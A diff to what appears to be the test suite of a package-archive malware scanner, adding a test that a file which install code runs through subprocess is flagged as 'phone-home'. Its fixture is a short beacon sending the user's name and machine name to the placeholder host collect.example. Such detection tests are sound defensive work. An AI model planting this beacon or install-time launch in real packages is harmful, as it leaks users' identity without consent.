@@ -204,3 +204,17 @@ def test_an_imported_module_that_hides_its_code_is_read_as_import_time_code() ->
     report = scan_archive(archive, "demo-1.0.tar.gz")
     hidden = [f for f in report.findings if f.rule == "obfuscated"]
     assert hidden and hidden[0].file == "demo/util.py" and hidden[0].weight == 8
+
+
+BEACON = """\
+import getpass, platform, requests
+requests.get("https://collect.example/v/" + getpass.getuser() + platform.node())
+"""
+
+
+@pytest.mark.parametrize("name", ["demo/version", "tools/post_install.py"])
+def test_a_shipped_file_that_install_code_hands_to_python_is_install_code(name: str) -> None:
+    call = f'subprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "{name}")])'
+    rules, held = _rules(_hooked(call, **{name: BEACON}))
+    assert "phone-home" in rules
+    assert held
